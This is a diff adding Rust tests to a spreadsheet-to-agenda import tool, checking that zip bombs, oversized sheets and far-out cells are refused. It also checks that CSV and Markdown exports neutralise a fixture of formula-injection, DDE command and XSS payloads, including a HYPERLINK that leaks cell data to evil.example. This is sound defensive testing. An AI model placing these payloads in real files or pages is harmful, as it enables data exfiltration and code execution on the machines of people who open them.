@@ -151,10 +151,10 @@ fn the_seed_from_a_google_sheets_csv_is_the_shipped_show() {
     let run = dir.run(&["import", "rundown.csv"]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert!(
-        run.stderr
-            .contains("agenda.toml: updated with 6 segments from rundown.csv"),
+        run.stdout
+            .starts_with("agenda.toml: updated with 6 segments from rundown.csv"),
         "{}",
-        run.stderr
+        run.stdout
     );
     assert!(
         run.stderr.contains("columns not read: H (\"Owner\")"),
@@ -322,9 +322,9 @@ fn the_seed_from_an_xlsx_workbook_is_the_shipped_show() {
     let run = dir.run(&["import", "rundown.xlsx", "--sheet", "Run of show"]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert!(
-        run.stderr.contains("from rundown.xlsx:'Run of show'"),
+        run.stdout.contains("from rundown.xlsx:'Run of show'"),
         "{}",
-        run.stderr
+        run.stdout
     );
     assert_same_show_as_shipped(&dir, "agenda.toml");
 
@@ -1157,8 +1157,6 @@ fn ods_cell((kind, value): (&str, &str)) -> String {
 /// A LibreOffice Calc file: a zip with the mimetype first and stored, a
 /// manifest, and the table in content.xml.
 fn ods(path: &Path, sheet: &str, rows: &[Vec<(&str, &str)>]) {
-    use std::io::Write;
-    use zip::write::SimpleFileOptions;
     let body: String = rows
         .iter()
         .map(|row| {
@@ -1174,6 +1172,13 @@ fn ods(path: &Path, sheet: &str, rows: &[Vec<(&str, &str)>]) {
          <office:body><office:spreadsheet><table:table table:name=\"{sheet}\">{body}</table:table>\
          </office:spreadsheet></office:body></office:document-content>"
     );
+    ods_with_content(path, &content);
+}
+
+/// An .ods file whose content.xml is `content`.
+fn ods_with_content(path: &Path, content: &str) {
+    use std::io::Write;
+    use zip::write::SimpleFileOptions;
     let manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
         <manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\">\
         <manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/>\
@@ -1184,7 +1189,7 @@ fn ods(path: &Path, sheet: &str, rows: &[Vec<(&str, &str)>]) {
     for (name, text) in [
         ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
         ("META-INF/manifest.xml", manifest),
-        ("content.xml", content.as_str()),
+        ("content.xml", content),
     ] {
         zip.start_file(name, stored).unwrap();
         zip.write_all(text.as_bytes()).unwrap();
@@ -1264,4 +1269,550 @@ fn a_libreoffice_sheet_with_time_date_and_number_cells() {
         r#"bad.ods:Rundown!B2: "half nine" is not a time: write it as 09:30, 9:30 AM or 2022-06-01 09:30"#
     );
     assert!(!dir.0.join("bad.toml").exists());
+}
+
+// ------------------------------------------------------- hostile sheets
+
+/// What the kernel counted for a run of the binary: its wall time and its
+/// peak resident memory. GNU time reports the peak of its own child (this
+/// process's would count in a child it spawned itself: the kernel keeps the
+/// high-water mark of the memory a child leaves at exec), and prlimit caps
+/// the binary's address space at 1 GiB, so that a sheet that is not bounded
+/// makes it fail rather than fill the machine.
+struct Measured {
+    run: Run,
+    took: std::time::Duration,
+    peak_mb: f64,
+}
+
+fn measured(dir: &Path, args: &[&str]) -> Measured {
+    let report = dir.with_extension("time");
+    let started = std::time::Instant::now();
+    let output = Command::new("/usr/bin/time")
+        .arg("-o")
+        .arg(&report)
+        .args(["-f", "%M", "prlimit", "--as=1073741824", "--"])
+        .arg(env!("CARGO_BIN_EXE_showclock"))
+        .args(args)
+        .current_dir(dir)
+        .env("TZ", "Pacific/Chatham")
+        .output()
+        .expect("GNU time runs (Debian package time)");
+    let took = started.elapsed();
+    let report = std::fs::read_to_string(&report).unwrap();
+    let _ = std::fs::remove_file(dir.with_extension("time"));
+    // The last line is the peak in KiB (a line before it may say a signal ended it).
+    let peak_kib: f64 = report.lines().last().unwrap().trim().parse().unwrap();
+    Measured {
+        run: Run {
+            code: output.status.code().unwrap_or(-1),
+            stdout: String::from_utf8(output.stdout).unwrap(),
+            stderr: String::from_utf8(output.stderr).unwrap(),
+        },
+        took,
+        peak_mb: peak_kib / 1024.0,
+    }
+}
+
+/// Imports the sheet `make` writes into an agenda that exists, and checks
+/// that it is refused with `expected` in under 2 s and 256 MB, and that the
+/// agenda is left byte for byte as it was, with nothing beside it.
+fn refused(name: &str, make: impl FnOnce(&Path) -> &'static str, expected: &str) {
+    let dir = TempDir::new(name);
+    dir.file("agenda.toml", &agenda_to_update());
+    let before = std::fs::read(dir.0.join("agenda.toml")).unwrap();
+    let sheet = make(&dir.0);
+    let size = std::fs::metadata(dir.0.join(sheet)).unwrap().len();
+    let measured = measured(&dir.0, &["import", sheet]);
+    let run = &measured.run;
+    eprintln!(
+        "{name}: {:.1} MB file refused in {:?}, peak {:.0} MB: {}",
+        size as f64 / 1e6,
+        measured.took,
+        measured.peak_mb,
+        run.stderr.lines().next().unwrap_or_default()
+    );
+    assert_eq!(run.code, 1, "{name}: {}", run.stderr);
+    assert!(run.stderr.contains(expected), "{name}: {}", run.stderr);
+    assert!(run.stderr.ends_with("\n") && !run.stderr.contains("panicked"));
+    assert!(
+        measured.took < std::time::Duration::from_secs(2),
+        "{name}: took {:?}",
+        measured.took
+    );
+    assert!(
+        measured.peak_mb < 256.0,
+        "{name}: peak {} MB",
+        measured.peak_mb
+    );
+    assert_eq!(std::fs::read(dir.0.join("agenda.toml")).unwrap(), before);
+    let mut names: Vec<String> = std::fs::read_dir(&dir.0)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["agenda.toml", sheet], "{name}: nothing written");
+}
+
+/// A workbook of a header and one row, with `far` at (row, column).
+fn workbook_with_cell_at(path: &Path, (row, column): (u32, u16)) {
+    let mut workbook = Workbook::new();
+    let sheet = workbook.add_worksheet();
+    for (c, text) in ["Start", "End", "Title"].iter().enumerate() {
+        sheet.write_string(0, c as u16, *text).unwrap();
+    }
+    for (c, text) in ["09:00", "09:30", "Talk"].iter().enumerate() {
+        sheet.write_string(1, c as u16, *text).unwrap();
+    }
+    sheet.write_string(row, column, "far").unwrap();
+    workbook.save(path).unwrap();
+}
+
+/// A workbook whose part `name` is rewritten by `write` from its original
+/// text: every other part as rust_xlsxwriter made it. Compressed at level 9,
+/// which packs a run of one byte about a thousand to one.
+fn workbook_with_part(path: &Path, name: &str, write: impl FnOnce(&str, &mut dyn std::io::Write)) {
+    use std::io::{Read, Write};
+    let mut workbook = Workbook::new();
+    let sheet = workbook.add_worksheet();
+    for (c, text) in ["Start", "End", "Title", "Notes"].iter().enumerate() {
+        sheet.write_string(0, c as u16, *text).unwrap();
+    }
+    for (c, text) in ["09:00", "09:30", "Talk", "HUGE"].iter().enumerate() {
+        sheet.write_string(1, c as u16, *text).unwrap();
+    }
+    let original = workbook.save_to_buffer().unwrap();
+    let mut source = zip::ZipArchive::new(std::io::Cursor::new(original)).unwrap();
+    let options = zip::write::SimpleFileOptions::default().compression_level(Some(9));
+    let mut out = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
+    let mut write = Some(write);
+    for index in 0..source.len() {
+        let mut part = source.by_index(index).unwrap();
+        let part_name = part.name().unwrap().to_string();
+        let mut text = String::new();
+        part.read_to_string(&mut text).unwrap();
+        out.start_file(part_name.as_str(), options).unwrap();
+        match write.take_if(|_| part_name == name) {
+            Some(write) => {
+                let mut buffered = std::io::BufWriter::with_capacity(1 << 20, &mut out);
+                write(&text, &mut buffered);
+                buffered.flush().unwrap();
+            }
+            None => out.write_all(text.as_bytes()).unwrap(),
+        }
+    }
+    assert!(write.is_none(), "the workbook has a part {name}");
+    out.finish().unwrap();
+}
+
+/// `count` copies of `byte`, written a mebibyte at a time.
+fn write_run(out: &mut dyn std::io::Write, byte: u8, count: usize) {
+    let block = vec![byte; 1 << 20];
+    for _ in 0..count >> 20 {
+        out.write_all(&block).unwrap();
+    }
+}
+
+#[test]
+fn a_cell_far_out_is_refused_before_anything_is_allocated() {
+    for (name, at, cell) in [
+        ("zz300000", (299_999, 701), "ZZ300000"),
+        ("xfd1048576", (1_048_575, 16_383), "XFD1048576"),
+        ("xfd2000", (1_999, 16_383), "XFD2000"),
+    ] {
+        refused(
+            name,
+            |dir| {
+                workbook_with_cell_at(&dir.join("far.xlsx"), at);
+                "far.xlsx"
+            },
+            &format!(
+                "far.xlsx:Sheet1!{cell}: this cell is beyond the 20000 rows and 64 columns (A to BL) \
+                 a rundown sheet may use: clear it (and anything else that far out), or read another sheet"
+            ),
+        );
+    }
+}
+
+#[test]
+fn a_small_workbook_that_unpacks_to_gigabytes_is_refused() {
+    refused(
+        "shared-string",
+        |dir| {
+            workbook_with_part(
+                &dir.join("bomb.xlsx"),
+                "xl/sharedStrings.xml",
+                |text, out| {
+                    let (before, after) = text.split_once("HUGE").unwrap();
+                    out.write_all(before.as_bytes()).unwrap();
+                    write_run(out, b'a', 1 << 30);
+                    out.write_all(after.as_bytes()).unwrap();
+                },
+            );
+            let size = std::fs::metadata(dir.join("bomb.xlsx")).unwrap().len();
+            assert!(size < 2_000_000, "a 1 GiB string in {size} bytes");
+            "bomb.xlsx"
+        },
+        "bomb.xlsx: the workbook's xl/sharedStrings.xml unpacks to more than 16 MB",
+    );
+    refused(
+        "whitespace",
+        |dir| {
+            workbook_with_part(
+                &dir.join("spaces.xlsx"),
+                "xl/worksheets/sheet1.xml",
+                |text, out| {
+                    let (before, after) = text.split_once("<sheetData>").unwrap();
+                    out.write_all(before.as_bytes()).unwrap();
+                    out.write_all(b"<sheetData>").unwrap();
+                    write_run(out, b' ', 2 << 30);
+                    out.write_all(after.as_bytes()).unwrap();
+                },
+            );
+            let size = std::fs::metadata(dir.join("spaces.xlsx")).unwrap().len();
+            assert!(size < 3_000_000, "2 GiB of spaces in {size} bytes");
+            "spaces.xlsx"
+        },
+        "spaces.xlsx: the workbook's xl/worksheets/sheet1.xml unpacks to more than 16 MB",
+    );
+    refused(
+        "million-rows-xlsx",
+        |dir| {
+            workbook_with_part(
+                &dir.join("rows.xlsx"),
+                "xl/worksheets/sheet1.xml",
+                |text, out| {
+                    let (before, rest) = text.split_once("</row>").unwrap();
+                    let after = &rest[rest.find("</sheetData>").unwrap()..];
+                    out.write_all(before.as_bytes()).unwrap();
+                    out.write_all(b"</row>").unwrap();
+                    for row in 2..=1_000_001 {
+                        // Shared strings 4 and 6: "09:00" and "Talk".
+                        write!(
+                            out,
+                            "<row r=\"{row}\"><c r=\"A{row}\" t=\"s\"><v>4</v></c>\
+                             <c r=\"C{row}\" t=\"s\"><v>6</v></c></row>"
+                        )
+                        .unwrap();
+                    }
+                    out.write_all(after.as_bytes()).unwrap();
+                },
+            );
+            "rows.xlsx"
+        },
+        "rows.xlsx: the workbook's xl/worksheets/sheet1.xml unpacks to more than 16 MB",
+    );
+}
+
+#[test]
+fn a_sheet_too_large_for_an_agenda_is_refused_before_writing() {
+    refused(
+        "million-rows-csv",
+        |dir| {
+            let mut sheet = String::from("Start,Title\n");
+            for row in 0..1_000_000 {
+                sheet.push_str(&format!("09:{:02},Talk {row}\n", row % 60));
+            }
+            std::fs::write(dir.join("rows.csv"), sheet).unwrap();
+            "rows.csv"
+        },
+        "rows.csv: the file is larger than the 16 MB a rundown sheet may be",
+    );
+    refused(
+        "one-huge-cell",
+        |dir| {
+            let mut file = std::fs::File::create(dir.join("cell.csv")).unwrap();
+            use std::io::Write;
+            file.write_all(b"Start,End,Title\n09:00,09:30,\"").unwrap();
+            write_run(&mut file, b'x', 100 << 20);
+            file.write_all(b"\"\n").unwrap();
+            "cell.csv"
+        },
+        "cell.csv: the file is larger than the 16 MB a rundown sheet may be",
+    );
+    refused(
+        "too-many-segments",
+        |dir| {
+            let mut sheet = String::from("Start,Duration,Title\n09:00,1,Talk 0\n");
+            for row in 1..12_000 {
+                sheet.push_str(&format!(",1,Talk {row}\n"));
+            }
+            std::fs::write(dir.join("many.csv"), sheet).unwrap();
+            "many.csv"
+        },
+        "many.csv:C10002: a segment past the 10000 an agenda may have: split the show into several sheets",
+    );
+    refused(
+        "past-the-rows",
+        |dir| {
+            let sheet = format!(
+                "Start,End,Title\n09:00,09:30,Talk\n{}x\n",
+                ",\n".repeat(20_000)
+            );
+            std::fs::write(dir.join("far.csv"), sheet).unwrap();
+            "far.csv"
+        },
+        "far.csv:A20003: this cell is beyond the 20000 rows",
+    );
+    refused(
+        "long-text",
+        |dir| {
+            let sheet = format!("Start,End,Title\n09:00,09:30,{}\n", "x".repeat(10_001));
+            std::fs::write(dir.join("long.csv"), sheet).unwrap();
+            "long.csv"
+        },
+        "long.csv:C2: the text is 10001 characters long: an agenda holds at most 10000 in one value",
+    );
+    // One shared string of 9,000 characters shown in the notes of 2,000
+    // rows: a 1 MB sheet, an 18 MB agenda.
+    refused(
+        "repeated-notes",
+        |dir| {
+            let mut workbook = Workbook::new();
+            let sheet = workbook.add_worksheet();
+            for (c, text) in ["Start", "Duration", "Title", "Notes"].iter().enumerate() {
+                sheet.write_string(0, c as u16, *text).unwrap();
+            }
+            let notes = "n".repeat(9_000);
+            sheet.write_string(1, 0, "09:00").unwrap();
+            for row in 1..=2_000 {
+                sheet.write_number(row, 1, 1).unwrap();
+                sheet.write_string(row, 2, format!("Talk {row}")).unwrap();
+                sheet.write_string(row, 3, &notes).unwrap();
+            }
+            workbook.save(dir.join("notes.xlsx")).unwrap();
+            "notes.xlsx"
+        },
+        "the agenda would hold more than the 16 MB an agenda may be",
+    );
+}
+
+#[test]
+fn an_opendocument_sheet_repeating_a_cell_far_out_is_refused() {
+    refused(
+        "ods-repeats",
+        |dir| {
+            let path = dir.join("repeats.ods");
+            ods(
+                &path,
+                "Run",
+                &[
+                    vec![("string", "Start"), ("string", "End"), ("string", "Title")],
+                    vec![("string", "09:00"), ("string", "09:30"), ("string", "Talk")],
+                ],
+            );
+            // A row repeated a million times of a cell repeated 16,000 times.
+            let text = std::fs::read(&path).unwrap();
+            let mut archive = zip::ZipArchive::new(std::io::Cursor::new(text)).unwrap();
+            let mut content = String::new();
+            std::io::Read::read_to_string(
+                &mut archive.by_name("content.xml").unwrap(),
+                &mut content,
+            )
+            .unwrap();
+            let bomb = "<table:table-row table:number-rows-repeated=\"1000000\">\
+                <table:table-cell table:number-columns-repeated=\"16000\" office:value-type=\"string\">\
+                <text:p>x</text:p></table:table-cell></table:table-row></table:table>";
+            ods_with_content(&path, &content.replace("</table:table>", bomb));
+            "repeats.ods"
+        },
+        "repeats.ods:Run!BM3: this cell is beyond the 20000 rows and 64 columns",
+    );
+}
+
+// ------------------------------------------------ updating an agenda
+
+/// The shipped show's times and titles only, as a producer keeps them: no
+/// role, organisation, moderator or notes column. The panel starts five
+/// minutes late and a break is added before the closing.
+const TIMES_ONLY_CSV: &str = "\
+Start,End,Title,Speakers
+9:00 AM,9:10 AM,Welcome and Introduction,Cristiano Façanha; Huiming Gong
+9:10 AM,9:25 AM,Technology and Commercialization Pathways and Timing for ZE-MHDVs in China,\"Baha M. Al-Alawi, PhD.; Owen MacDonnell\"
+9:25 AM,9:40 AM,Zero-emission truck real-world performance in U.S. and Europe and implications for China,Yin Qiu; Shuhan Song
+9:45 AM,10:10 AM,Panel Discussion,Yunshi WANG; Shiyue MAO; Zhe WANG; Ying XIONG
+10:10 AM,10:25 AM,Q&A,
+10:25 AM,10:28 AM,Break,
+10:28 AM,10:30 AM,Closing,
+";
+
+#[test]
+fn importing_into_an_agenda_keeps_what_the_sheet_lacks_and_the_old_agenda() {
+    let dir = TempDir::new("merge");
+    let original = shipped_text();
+    dir.file("agenda.toml", &original);
+    dir.file("rundown.csv", TIMES_ONLY_CSV);
+    let run = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(
+        run.stdout,
+        "agenda.toml: updated with 7 segments from rundown.csv (2 changed, 1 added, 4 unchanged)\n\
+         \x20 changed 4. \"Panel Discussion\": start 09:40 → 09:45\n\
+         \x20 added   6. \"Break\", 10:25–10:28\n\
+         \x20 changed 7. \"Closing\": start 10:25 → 10:28\n\
+         \x20 kept from the agenda, where the sheet has no column for them: moderators, notes, organizations, roles\n\
+         \x20 the old agenda is kept as agenda.toml.bak\n",
+        "{}",
+        run.stderr
+    );
+    // The old agenda, byte for byte; the new one keeps every person's role,
+    // organisation and zone, both moderators and the notes.
+    assert_eq!(dir.read("agenda.toml.bak"), original);
+    let (old, new) = (load(&shipped()), load(&dir.0.join("agenda.toml")));
+    assert_eq!(new.segments.len(), 7);
+    for (before, after) in [(0, 0), (1, 1), (2, 2), (3, 3), (4, 4), (5, 6)] {
+        let (before, after) = (&old.segments[before], &new.segments[after]);
+        assert_eq!(after.title, before.title);
+        assert_eq!(after.moderator, before.moderator, "{}", after.title);
+        assert_eq!(after.speakers, before.speakers, "{}", after.title);
+        assert_eq!(after.notes, before.notes, "{}", after.title);
+    }
+    assert_eq!(
+        new.segments[4]
+            .moderator
+            .as_ref()
+            .unwrap()
+            .role_label
+            .as_deref(),
+        Some("Facilitated by")
+    );
+    assert_eq!((new.contacts, new.clocks), (old.contacts, old.clocks));
+
+    // The same sheet again changes nothing and writes nothing.
+    let again = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(
+        again.stdout,
+        "agenda.toml: already as rundown.csv says (7 segments): nothing written\n"
+    );
+    // A change with a backup there already: the old one gets a timestamp.
+    let updated = dir.read("agenda.toml");
+    dir.file("rundown.csv", &TIMES_ONLY_CSV.replace("Break", "Coffee"));
+    let third = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(third.code, 0, "{}", third.stderr);
+    let kept = third.stdout.lines().last().unwrap();
+    let stamped = kept.strip_prefix("  the old agenda is kept as ").unwrap();
+    assert!(stamped.starts_with("agenda.toml.bak-20"), "{kept}");
+    assert_eq!(dir.read(stamped), updated);
+    assert_eq!(dir.read("agenda.toml.bak"), original);
+}
+
+#[test]
+fn every_bad_cell_is_told_in_one_run_however_it_is_found() {
+    let dir = TempDir::new("all-at-once");
+    dir.file("agenda.toml", &agenda_to_update());
+    let before = dir.read("agenda.toml");
+    // A cell that does not read (B2), a row out of order (A4), a duration
+    // that disagrees with its end (C5), a row with no title (D6) and a last
+    // row with no end (B7): found by three different passes.
+    dir.file(
+        "rundown.csv",
+        "Start,End,Duration,Title\n\
+         09:00,9h45,,Talk\n\
+         09:45,10:00,,Second\n\
+         09:30,09:40,,Out of order\n\
+         10:00,10:30,20,Disagrees\n\
+         10:30,10:40,,\n\
+         10:40,,,Last\n",
+    );
+    let run = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(run.code, 1);
+    assert_eq!(
+        run.stderr,
+        "rundown.csv:B2: \"9h45\" is not a time: write 09:45\n\
+         rundown.csv:A4: 09:30 is earlier than 10:00, the time above it, so it falls on the next day, 23h30m later: if that is meant, add a Date column, otherwise fix the time\n\
+         rundown.csv:C5: the duration \"20\" does not match the end \"10:30\" (30m after the start): fix one of them, or clear the duration\n\
+         rundown.csv:D6: this row has no title: write the segment's title (or clear the row)\n\
+         rundown.csv:B7: the last row has no end: give it an end time or a duration\n\
+         nothing written: fix the cells above and import again\n"
+    );
+    assert_eq!(dir.read("agenda.toml"), before);
+}
+
+// ---------------------------------------------------- safe to open
+
+/// Agenda text a spreadsheet or a Markdown renderer would run.
+const HOSTILE: &str = r#"[event]
+title = "<script>alert(1)</script> & friends"
+date = 2022-06-01
+timezone = "UTC"
+
+[[segment]]
+title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
+start = "09:00"
+end = "09:10"
+speakers = [ { name = "@SUM(1+1)*cmd|' /C calc'!A0", role = "+1 Director" } ]
+notes = "-2+3 [x](javascript:alert(1)) ![](http://evil.example/p.png) <img src=x onerror=alert(1)> &lt;b&gt; *bold* `code`"
+
+[[segment]]
+title = "'=already quoted"
+start = "09:10"
+end = "09:20"
+cues = ["\tTabbed", "=1+1"]
+"#;
+
+#[test]
+fn a_csv_export_never_runs_a_formula_and_imports_back_as_written() {
+    let dir = TempDir::new("formulas");
+    dir.file("hostile.toml", HOSTILE);
+    let run = dir.run(&["export", "hostile.toml", "-o", "hostile.csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let sheet = dir.read("hostile.csv");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(sheet.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    // No cell starts as a formula; each such text has a ' in front.
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would run"
+        );
+    }
+    for shown in [
+        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1 Director",
+        "''=already quoted",
+    ] {
+        assert!(cells.iter().any(|c| c == shown), "{shown:?} in {cells:?}");
+    }
+    let back = dir.run(&["import", "hostile.csv", "-o", "back.toml"]);
+    assert_eq!(back.code, 0, "{}", back.stderr);
+    let (mut written, read) = (
+        load(&dir.0.join("hostile.toml")),
+        load(&dir.0.join("back.toml")),
+    );
+    // Import trims the spaces around a cell's text, a tab among them.
+    written.segments[1].cues[0] = "Tabbed".into();
+    assert_eq!(read.segments, written.segments);
+}
+
+#[test]
+fn a_markdown_export_shows_html_and_links_as_text() {
+    let dir = TempDir::new("markdown");
+    dir.file("hostile.toml", HOSTILE);
+    let run = dir.run(&["export", "hostile.toml", "--format", "markdown"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let text = run.stdout;
+    for raw in ["<script", "<img", "[x](", "![](", "&lt;b"] {
+        assert!(!text.contains(raw), "{raw:?} in {text}");
+    }
+    assert!(
+        text.starts_with("# &lt;script&gt;alert(1)&lt;/script&gt; & friends\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "Notes: -2+3 \\[x\\](javascript:alert(1)) !\\[\\](http://evil.example/p.png) \
+             &lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt; \\*bold\\* \\`code\\`"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("- @SUM(1+1)\\*cmd\\|' /C calc'!A0, +1 Director"),
+        "{text}"
+    );
 }
